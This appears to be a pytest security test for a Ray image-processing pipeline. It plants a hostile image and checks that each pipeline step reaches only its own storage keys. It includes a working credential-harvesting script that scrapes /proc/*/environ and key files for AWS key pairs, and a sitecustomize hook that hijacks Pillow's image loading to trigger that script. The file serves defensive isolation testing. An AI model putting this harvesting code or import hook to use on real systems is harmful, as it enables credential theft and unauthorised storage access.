"""What a decoder that an image has taken over can reach: the place of its own step, and nothing of the driver.

The store, a Ray node and the driver are hosts, whose processes are contained as in infra/compose.yaml: each sees its
own processes and files. The image is decoded by a real build.
"""

import io
import json
import re
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from sklearn.datasets import load_digits

from flows.services import deployed_keys, secrets_file
from flows.services.store_keys import derive
from tests.rigs.hosts import Host, Network
from tests.rigs.ray_nodes import QUICK_TO_GIVE_UP
from tests.rigs.s3_server import S3Server, serve

pytestmark = [pytest.mark.services, pytest.mark.faults]

IMAGES = 40
MODEL, CHECKPOINT, SHARD, IMAGE = "mlflow/1/models/m-1/artifacts/x", "runs/r/x", "datasets/d/shards/x", "raw/photos/x"
SECRETS = {name: f"{name.replace('_', '').lower()}0123456789abcdef0123456789" for name in secrets_file.NAMES}
PASSWORDS = {value for name, value in SECRETS.items() if not name.startswith("AWS_") and name != "RAY_AUTH_TOKEN"}
# Searches what its processes can see for pairs of the store, and tries to read and write with each.
ATTACK = """
import glob, json, os, re
def attack(report, steps):
    import boto3
    from botocore.config import Config
    from botocore.exceptions import ClientError
    seen = [json.dumps(dict(os.environ))]
    for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob(steps + "/**", recursive=True),
                 *glob.glob("/run/igpt/keys/**", recursive=True)]:
        try:
            seen.append(open(path, errors="replace").read())
        except OSError:
            pass
    text = "\\n".join(seen)
    pairs = {(os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"])}
    pairs |= set(re.findall(r"AWS_ACCESS_KEY_ID=([^\\0]+)\\0.*?AWS_SECRET_ACCESS_KEY=([^\\0]+)\\0", text, re.DOTALL))
    pairs |= set(re.findall(r"aws_access_key_id = (\\S+)\\naws_secret_access_key = (\\S+)", text))
    done = set()
    for access_key, secret_key in pairs:
        s3 = boto3.client("s3", aws_access_key_id=access_key, aws_secret_access_key=secret_key,
                          config=Config(retries={"total_max_attempts": 1}))
        for place in PLACES:
            bucket, _, key = place.partition("/")
            for name, call in (("read", lambda: s3.list_objects_v2(Bucket=bucket)),
                               ("write", lambda: s3.put_object(Bucket=bucket, Key=key, Body=b"attacked"))):
                try:
                    call()
                    done.add((name, bucket))
                except ClientError:
                    pass
    found = {"seen": text, "pairs": sorted(a for a, _ in pairs), "done": sorted(done), "pid": os.getpid()}
    with open(report + ".partial", "w") as file:
        json.dump(found, file)
    os.replace(report + ".partial", report)
    return found
""".replace("PLACES", repr((MODEL, CHECKPOINT, SHARD, IMAGE)))
# Run by each interpreter of the node: Pillow then runs the attack on an image that ends with these words.
SITE = (
    ATTACK
    + """
from PIL import ImageFile
_init = ImageFile.ImageFile.__init__
def hostile_init(image, file, filename=None):
    if file.getvalue()[-8:] == b"ATTACK..":
        attack(REPORT, KEYS)
    _init(image, file, filename)
ImageFile.ImageFile.__init__ = hostile_init
"""
)
DRIVER = (
    ATTACK
    + """
import sys
from flows.services import settings
from pipeline.build.build import build
from pipeline.cluster import tasks
from pipeline.config import DatasetConfig

address, report, steps = sys.argv[1:]
tasks.connect(address, key=settings.store_key("build"))
fields = {"resolution": 8, "colours": 16, "samples_per_shard": 20, "validation_fraction": 0.1, "test_fraction": 0.1}
print(build(DatasetConfig(raw="s3://raw/photos", dataset="s3://datasets/photos", **fields)).snapshot.images())
for step in ("train", "probe"):
    tasks.connect(address, key=settings.store_key(step))
    ((_, _),) = tasks.map_tasks(attack, [(report + "." + step, steps)])
"""
)


@dataclass(frozen=True, kw_only=True)
class Site:
    """The hosts, the store, and what the attacks found, by step."""

    s3: S3Server
    found: dict[str, dict[str, Any]]
    printed: str


def contained(hidden: list[Path], keys: Path, command: str) -> list[str]:
    """A shell command that sees no processes but its own, no file of these folders, and keys where containers do."""
    hide = "".join(f"mount -t tmpfs none {folder}; " for folder in hidden)
    mounts = f"mount --bind {keys} /mnt; {hide}mkdir -p /run/igpt/keys; mount --bind /mnt /run/igpt/keys; umount /mnt; "
    return ["unshare", "--pid", "--fork", "--mount-proc", "--kill-child", "bash", "-ec", mounts + command]


def start_ray(host: Host, rest: str) -> str:
    return (
        f"{sys.executable} -m ray.scripts.scripts start {rest} --node-ip-address={host.address} "
        f"--temp-dir={host.folder}/ray --num-gpus=0 --object-store-memory=100000000 --disable-usage-stats "
        "--include-log-monitor=false --block"
    )


@pytest.fixture(scope="module")
def site(needs_hosts: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    program = tmp_path_factory.mktemp("driver") / "driver.py"
    program.write_text(DRIVER)
    with Network() as network:
        storage, node, driver = (network.add(label) for label in ("s3", "ray", "driv"))
        with serve(storage.folder / "data", storage.address, 9000, storage.start) as s3:
            put_images(s3.bucket("raw") / "photos")
            keys, report = storage.folder / "keys", node.folder / "found"
            of_store = {"AWS_ACCESS_KEY_ID": s3.access_key, "AWS_SECRET_ACCESS_KEY": s3.secret_key}
            deployed_keys.write_all(keys, {**SECRETS, **of_store}, "[mlflow]\n")
            (node.folder / "sitecustomize.py").write_text(
                SITE.replace("REPORT", repr(str(report))).replace("KEYS", repr(str(keys)))
            )
            store = {"AWS_ENDPOINT_URL": s3.url, "AWS_DEFAULT_REGION": "us-east-1"}
            store["AWS_SHARED_CREDENTIALS_FILE"] = "/run/igpt/keys/credentials"
            ray = {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN_PATH": "/run/igpt/keys/ray-token", **QUICK_TO_GIVE_UP}
            node.start(
                contained(
                    [storage.folder, driver.folder],
                    keys / "nodes",
                    start_ray(node, "--head --port=6379 --num-cpus=1 --include-dashboard=false --no-monitor"),
                ),
                {**store, **ray, "PYTHONPATH": str(node.folder)},
                node.folder / "log",
            )
            address = f"{node.address}:6379"
            join = start_ray(driver, f"--address={address} --num-cpus=0")
            ready = f"until (echo > /dev/tcp/{node.address}/6379) 2> /dev/null; do sleep 0.2; done; "
            work = f"{sys.executable} {program} {address} {report} {keys}"
            ended = driver.run(
                contained([storage.folder, node.folder], keys / "driver", f"{ready}{join} > ray.log & sleep 1; {work}"),
                {**store, **ray, "IGPT_KEYS": "/run/igpt/keys/steps"},
                seconds=200,
            )
            assert ended.returncode == 0, ended.stderr[-3000:] + (node.folder / "log").read_text()[-2000:]
            found = {"build": json.loads(report.read_text())}
            found |= {step: json.loads(Path(f"{report}.{step}").read_text()) for step in ("train", "probe")}
            yield Site(s3=s3, found=found, printed=ended.stdout)


def put_images(folder: Path) -> None:
    images = load_digits()
    for number, (image, label) in enumerate(zip(images.images[:IMAGES], images.target[:IMAGES], strict=True)):
        stream = io.BytesIO()
        Image.fromarray((image * 15).astype("uint8")).save(stream, "PNG")
        path = folder / str(label) / f"{number}.png"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(stream.getvalue() + (b"ATTACK.." if number == 7 else b""))


def test_the_image_is_in_the_dataset_like_every_other(site: Site) -> None:
    """So the step has the keys that it needs."""
    assert site.printed.split() == [str(IMAGES)]


def test_no_step_reaches_the_secrets_of_the_driver(site: Site) -> None:
    pairs = derive(site.s3.administrator)
    for step, found in site.found.items():
        assert f"IGPT_ROLE={step}" in found["seen"].replace('": "', "=") or step in found["seen"]
        hidden = [pair.secret_key for role, pair in pairs.items() if role not in (step, "reader")]
        signing = deployed_keys.private_key(SECRETS).hex()
        for secret in (*PASSWORDS, site.s3.secret_key, signing, *hidden):
            assert secret not in found["seen"], step
        assert SECRETS["RAY_AUTH_TOKEN"] in found["seen"], "the attack reads the files of its node"
        assert found["pairs"] == sorted([pairs[step].access_key, pairs["reader"].access_key])


@pytest.mark.parametrize(
    ("step", "done"),
    [
        ("build", {("read", "raw"), ("read", "datasets"), ("write", "datasets")}),
        ("train", {("read", "datasets"), ("read", "runs"), ("write", "runs")}),
        ("probe", {("read", "datasets"), ("read", "runs")}),
    ],
)
def test_no_step_reads_or_writes_more_than_it_needs(site: Site, step: str, done: set[tuple[str, str]]) -> None:
    assert {tuple(what) for what in site.found[step]["done"]} == done
    assert not (site.s3.folder / MODEL).exists() and not (site.s3.folder / IMAGE).exists()


def test_no_process_works_for_two_steps(site: Site) -> None:
    assert len({found["pid"] for found in site.found.values()}) == len(site.found)


def test_ray_writes_no_key_to_its_logs(site: Site) -> None:
    logs = [path for path in (site.s3.folder.parents[1]).rglob("*") if re.search(r"/ray/.*\.(log|out|err)$", str(path))]
    text = "\n".join(path.read_text(errors="replace") for path in logs)
    assert len(logs) > 10
    assert not [role for role, pair in derive(site.s3.administrator).items() if pair.secret_key in text]
